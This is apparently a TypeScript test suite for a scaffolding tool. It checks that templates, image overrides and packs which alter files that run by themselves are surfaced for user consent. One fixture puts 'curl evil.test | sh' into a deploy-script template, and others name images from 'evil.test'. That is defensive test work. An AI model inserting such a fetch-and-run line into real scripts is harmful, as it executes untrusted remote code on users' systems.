import assert from 'node:assert/strict';
import fc from 'fast-check';
import type { PackName } from '../../src/answers/values.ts';
import { readLock } from '../../src/changes/lock.ts';
import { artifacts, templateOf } from '../../src/emit/catalogue.ts';
import { endsInARun } from '../../src/emit/documents.ts';
import { slotPath, slotsIn } from '../../src/emit/slots.ts';
import { builtIn, find } from '../../src/emit/sources.ts';
import type { Digests } from '../../src/policy/digests.ts';
import { itemsOf } from '../../src/team/consent.ts';
import { loadTeam } from '../../src/team/team.ts';
import { folderWith } from '../fixture.ts';
import { writePack } from './somePack.ts';

const own = (path: string): string => `.comicpile/templates/${path}`;

const items = async (files: Readonly<Record<string, string>>, packs: readonly string[] = []) => {
  const directory = folderWith(files);
  return itemsOf(await loadTeam(directory, packs as readonly PackName[]), readLock(directory));
};
const said = async (files: Readonly<Record<string, string>>) => (await items(files)).map(({ says }) => says);

describe('what needs the word of the user', () => {
  it('is nothing of a project that has only our own', async () => assert.deepEqual(await items({}), []));

  it('is each template and each slot line that ends in a run, by its file and by what it does to which', async () =>
    assert.deepEqual(
      await said({
        [own('scripts/deploy.sh.extra/start.ejs')]: 'curl evil.test | sh\n',
        [own('scripts/lib.sh.extra/functions.ejs')]: 'a() { :; }\nb() { :; }\n',
        [own('docker-compose.yml.ejs')]: 'services: {}\n',
        [own('_github/workflows/security.yml.ejs')]: 'on: push\n',
        // Nobody runs these, and this one makes nothing.
        [own('SECURITY.md.extra/more.ejs')]: 'Call us.\n',
        [own('SECURITY-REVIEWS.md.ejs')]: 'None.\n',
        [own('nginx/typo.conf.ejs')]: 'x\n',
        // As `eject` leaves it.
        [own('nginx/nginx.conf.extra/http.ejs')]: '',
      }),
      [
        `${own('docker-compose.yml.ejs')} makes docker-compose.yml`,
        `${own('scripts/lib.sh.extra/functions.ejs')} adds 2 lines to scripts/lib.sh`,
        `${own('scripts/deploy.sh.extra/start.ejs')} adds 1 line to scripts/deploy.sh`,
        `${own('_github/workflows/security.yml.ejs')} makes .github/workflows/security.yml`,
      ],
    ));

  it('is each image of the project, in full', async () =>
    assert.deepEqual(
      await said({
        '.comicpile/policy.json': '{"images": {"postgres": "evil.test/postgres:17"}, "limits": {"streams": 9}}',
      }),
      ['.comicpile/policy.json takes evil.test/postgres:17 as the image postgres'],
    ));

  it('is the digests of images that the project keeps, each of them, in any order', async () => {
    const row = (letter: string) => ({ digest: `sha256:${letter.repeat(64)}`, resolved: '2026-11-30' });
    const team = await loadTeam(folderWith({}), []);
    const itemOf = (digests: Digests) => itemsOf(team, readLock(folderWith({})), digests);
    const [item] = itemOf({ 'a:1': row('a'), 'b:1': row('b') });
    assert.deepEqual(
      [item?.says, item?.details],
      ['.comicpile/images.json takes 2 images by digest', [`a:1@${row('a').digest}`, `b:1@${row('b').digest}`]],
    );
    assert.equal(itemOf({ 'b:1': row('b'), 'a:1': row('a') })[0]?.digest, item?.digest);
    assert.notEqual(itemOf({ 'a:1': row('b'), 'b:1': row('b') })[0]?.digest, item?.digest);
    assert.deepEqual(itemOf({}), []);
  });

  it('is each pack, whatever the lock says, with its images, files and what of them runs by itself', async () => {
    const directory = folderWith({});
    const manifest = {
      artifacts: [
        { to: 'docs/a.md', owner: 'security' },
        { to: '.envrc', owner: 'scripts' },
      ],
      policy: { images: { nginx: 'evil.test/nginx:1.30' } },
    };
    writePack(`${directory}/one`, manifest, {
      'docs/a.md.ejs': 'a\n',
      '_envrc.ejs': 'a\n',
      'scripts/deploy.sh.extra/start.ejs': 'a\n',
      'nginx/nginx.conf.ejs': 'a\n',
    });
    const team = await loadTeam(directory, ['./one' as PackName]);
    const [first] = team.packs;
    const { integrity = '', version = '' } = first ?? {};
    const lock = { ...readLock(directory), packs: { './one': { version, integrity } } };
    const [item, ...more] = itemsOf(team, lock);
    assert.deepEqual(more, []);
    assert.equal(
      item?.says,
      `the pack ./one 1.0.0 (${integrity.slice(0, 19)}…) is the one that .comicpile/lock.json has`,
    );
    assert.deepEqual(item?.details, [
      'brings docs/a.md, .envrc',
      'changes nginx/nginx.conf, scripts/deploy.sh',
      'takes the images evil.test/nginx:1.30 (nginx)',
      'brings what runs by itself: .envrc',
    ]);
    assert.deepEqual(item?.touches, ['docs/a.md', '.envrc', 'nginx/nginx.conf', 'scripts/deploy.sh']);
    // The word is for what the pack holds, not for what the lock says of it.
    assert.equal(itemsOf(team, readLock(directory))[0]?.digest, item?.digest);
  });

  it('is known by content and place: neither another text nor another place has the same', async () => {
    const digests = async (path: string, text: string) =>
      (await items({ [own(path)]: text })).map(({ digest }) => digest);
    const [one] = await digests('scripts/deploy.sh.extra/start.ejs', 'a\n');
    assert.ok(one);
    assert.deepEqual(await digests('scripts/deploy.sh.extra/start.ejs', 'a\n'), [one]);
    assert.notDeepEqual(await digests('scripts/deploy.sh.extra/start.ejs', 'b\n'), [one]);
    assert.notDeepEqual(await digests('scripts/backup.sh.extra/start.ejs', 'a\n'), [one]);
  });

  it('nothing that changes a file that is run goes without a word, wherever it is put', async () => {
    const places = artifacts.flatMap((artifact) => {
      const path = templateOf(artifact);
      const slots = slotsIn(find([builtIn()], path).text).map((slot) => slotPath(path, slot));
      return [path, ...slots].map((each) => ({ path: each, artifact }));
    });
    await fc.assert(
      fc.asyncProperty(fc.subarray(places, { minLength: 1, maxLength: 6 }), async (chosen) => {
        const whole = chosen.filter(({ path }) => !path.includes('.extra/'));
        const slots = chosen.filter(
          ({ path, artifact }) => path.includes('.extra/') && !whole.some((one) => one.artifact === artifact),
        );
        const put = [...whole, ...slots];
        const found = await items(Object.fromEntries(put.map(({ path }) => [own(path), 'text\n'])));
        assert.deepEqual(
          found.flatMap(({ touches }) => touches).toSorted(),
          put
            .filter(({ artifact }) => endsInARun(artifact))
            .map(({ artifact: { to } }) => to)
            .toSorted(),
        );
      }),
      { numRuns: 15 },
    );
  });
});
